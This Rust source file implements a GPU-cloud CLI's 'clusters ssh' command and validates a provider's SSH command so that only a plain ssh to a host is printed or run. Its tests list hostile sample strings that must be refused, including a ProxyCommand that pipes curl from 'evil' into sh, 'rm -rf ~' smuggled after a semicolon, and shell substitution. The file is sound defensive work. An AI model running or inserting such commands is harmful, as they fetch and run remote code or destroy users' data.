//! `gpucloud clusters ssh`: a node's SSH command, checked before it is printed or run.

use clap::Args;
use gpucloud::Node;

use crate::context::Context;
use crate::error::CliError;
use crate::flags::{ClusterTargetArgs, bounds};
use crate::sanitize::cell;

#[derive(Debug, Args)]
pub struct SshArgs {
    #[command(flatten)]
    pub target: ClusterTargetArgs,
    /// The cluster: its id as the provider issued it, or its name (looked up in the
    /// ledger and, without --provider, in the providers' lists).
    #[arg(value_name = "CLUSTER", value_parser = bounds::cluster_id)]
    pub id: String,
    /// The node: its id, or its position in `clusters get` (0 is the first). Default: the
    /// first GPU worker with an address (then any node with one).
    #[arg(long, value_name = "NODE")]
    pub node: Option<String>,
    /// Run ssh (without a shell) instead of printing the command.
    #[arg(long)]
    pub exec: bool,
    /// A command to run on the node (after `--`, with its arguments): ssh runs it there and
    /// gpucloud exits with its exit status. Implies --exec.
    #[arg(last = true, value_name = "COMMAND")]
    pub command: Vec<String>,
}

pub async fn run(ctx: &Context, args: &SshArgs) -> Result<(), CliError> {
    // What runs ssh prints the node's own output on stdout: it has no JSON form.
    if ctx.output().is_json() && (args.exec || !args.command.is_empty()) {
        return Err(super::no_json(
            "clusters ssh with --exec or a COMMAND runs ssh, whose output is the node's own;              without them, --json prints the command it would run",
        ));
    }
    let (client, id) = crate::cluster_ref::resolve(ctx, &args.target, &args.id).await?;
    let provider = client.provider();
    let cluster = client.get(&id).await?;
    // A node that is not there is a mistake in the request (exit 3), as any invalid input.
    let node = pick_node(&cluster.nodes, args.node.as_deref())
        .map_err(|why| CliError::Input(format!("{provider} cluster {}: {why}", cell(&id))))?;
    let command = ssh_command(node).ok_or_else(|| {
        CliError::Other(format!(
            "{provider} gives node {} no SSH command or address yet",
            cell(&node.id)
        ))
    })?;
    // Checked before it is printed too: a command the provider wrote is pasted as often as
    // it is run, and one that runs something else must not be offered.
    let mut argv = safe_argv(&command).map_err(|why| {
        CliError::Other(format!(
            "not offering {provider}'s SSH command for node {} ({why}); it was: {}",
            cell(&node.id),
            cell(&command)
        ))
    })?;
    if !args.command.is_empty() {
        argv.push("--".into());
        argv.extend(args.command.iter().cloned());
    }
    if !args.exec && args.command.is_empty() {
        if ctx.output().is_json() {
            return crate::output::json(&serde_json::json!({
                "node": node.id,
                "argv": argv,
                "command": shlex::try_join(argv.iter().map(String::as_str)).ok(),
            }));
        }
        let words: Vec<String> = argv.iter().map(|w| crate::shell::shell_word(w)).collect();
        say!("{}", words.join(" "));
        return Ok(());
    }
    let status = std::process::Command::new(&argv[0])
        .args(&argv[1..])
        .status()
        .map_err(|e| CliError::Other(format!("cannot run ssh: {e}")))?;
    match status.code() {
        Some(0) => Ok(()),
        // The remote command's status (or ssh's own 255), as ssh itself exits.
        Some(code) => Err(CliError::Remote(u8::try_from(code).unwrap_or(u8::MAX))),
        None => Err(CliError::Other("ssh was ended by a signal".into())),
    }
}

/// The node `wanted` names (its id, or its position), or the first with an address.
fn pick_node<'a>(nodes: &'a [Node], wanted: Option<&str>) -> Result<&'a Node, String> {
    let listing = || {
        nodes
            .iter()
            .enumerate()
            .map(|(i, n)| format!("{i}: {}", cell(&n.id)))
            .collect::<Vec<_>>()
            .join(", ")
    };
    match wanted {
        Some(wanted) => nodes
            .iter()
            .find(|n| n.id == wanted)
            .or_else(|| wanted.parse::<usize>().ok().and_then(|i| nodes.get(i)))
            .ok_or_else(|| format!("no node {:?}; its nodes are {}", cell(wanted), listing())),
        // A GPU worker first: Together lists its control-plane nodes before the workers,
        // and a shell on the control plane is rarely what a GPU job wants.
        None => nodes
            .iter()
            .find(|n| n.gpus.is_some_and(|g| g > 0) && ssh_command(n).is_some())
            .or_else(|| nodes.iter().find(|n| ssh_command(n).is_some()))
            .ok_or_else(|| match nodes.len() {
                0 => "it has no nodes yet".to_string(),
                _ => format!("no node has an address yet ({})", listing()),
            }),
    }
}

/// The provider's SSH command for `node`, else `ssh` to its public (then private) address or
/// host name.
fn ssh_command(node: &Node) -> Option<String> {
    node.ssh_command
        .clone()
        .filter(|c| !c.trim().is_empty())
        .or_else(|| {
            [&node.public_ip, &node.private_ip, &node.hostname]
                .into_iter()
                .flatten()
                .find(|a| !a.trim().is_empty())
                .map(|address| format!("ssh {address}"))
        })
}

/// The words of `command` if it is a plain `ssh [-p PORT] [-l USER] [USER@]HOST`, else why
/// not. A provider's text is never run through a shell, and options that run commands of
/// their own (`-o ProxyCommand=…`, `LocalCommand`, `-J`) or forward ports are refused.
fn safe_argv(command: &str) -> Result<Vec<String>, String> {
    let words = shlex::split(command).ok_or("its quoting does not parse")?;
    let mut words = words.into_iter();
    if words.next().as_deref() != Some("ssh") {
        return Err("it does not start with ssh".into());
    }
    let mut argv = vec!["ssh".to_string()];
    let mut destination = None;
    while let Some(word) = words.next() {
        match word.as_str() {
            "-p" | "-l" => {
                let value = words.next().ok_or(format!("{word} has no value"))?;
                let valid = if word == "-p" {
                    value.parse::<u16>().is_ok_and(|p| p > 0)
                } else {
                    is_user(&value)
                };
                if !valid {
                    return Err(format!("{word} {value:?} is not a plain value"));
                }
                argv.extend([word, value]);
            }
            _ if destination.is_none() && is_destination(&word) => destination = Some(word),
            _ => return Err(format!("{word:?} is more than a plain ssh to a host")),
        }
    }
    argv.push(destination.ok_or("it names no host")?);
    Ok(argv)
}

fn is_user(word: &str) -> bool {
    !word.is_empty()
        && !word.starts_with('-')
        && word
            .chars()
            .all(|c| c.is_ascii_alphanumeric() || matches!(c, '.' | '_' | '-'))
}

fn is_destination(word: &str) -> bool {
    let (user, host) = match word.split_once('@') {
        Some((user, host)) => (Some(user), host),
        None => (None, word),
    };
    user.is_none_or(is_user)
        && !host.is_empty()
        && !host.starts_with('-')
        && host
            .chars()
            .all(|c| c.is_ascii_alphanumeric() || matches!(c, '.' | '-' | ':'))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn plain_ssh_commands_are_run_word_by_word() {
        assert_eq!(
            safe_argv("ssh ubuntu@203.0.113.7").unwrap(),
            ["ssh", "ubuntu@203.0.113.7"]
        );
        assert_eq!(
            safe_argv("ssh -p 2222 -l root node-1.example").unwrap(),
            ["ssh", "-p", "2222", "-l", "root", "node-1.example"]
        );
    }

    #[test]
    fn anything_more_than_a_plain_ssh_is_refused() {
        for hostile in [
            "ssh -o ProxyCommand='curl evil|sh' host",
            "ssh host; rm -rf ~",
            "ssh host 'rm -rf ~'",
            "ssh -J jump host",
            "ssh -L 6443:localhost:6443 host",
            "bash -c 'ssh host'",
            "ssh -p 0 host",
            "ssh -l -oProxyCommand=x host",
            "ssh -- -oProxyCommand=x",
            "ssh 'unterminated",
            "ssh",
            "ssh $(whoami)@host",
        ] {
            assert!(safe_argv(hostile).is_err(), "{hostile}");
        }
    }

    #[test]
    fn nodes_are_picked_by_id_position_or_first_address() {
        let nodes = [
            Node {
                id: "cp-0".into(),
                ..Node::default()
            },
            Node {
                id: "gpu-0".into(),
                public_ip: Some("198.51.100.2".into()),
                ..Node::default()
            },
        ];
        assert_eq!(pick_node(&nodes, None).unwrap().id, "gpu-0");
        assert_eq!(pick_node(&nodes, Some("cp-0")).unwrap().id, "cp-0");
        assert_eq!(pick_node(&nodes, Some("1")).unwrap().id, "gpu-0");
        let missing = pick_node(&nodes, Some("7")).unwrap_err();
        assert!(missing.contains("0: cp-0, 1: gpu-0"), "{missing}");
        assert_eq!(ssh_command(&nodes[1]).as_deref(), Some("ssh 198.51.100.2"));
        assert_eq!(ssh_command(&nodes[0]), None);
    }
}
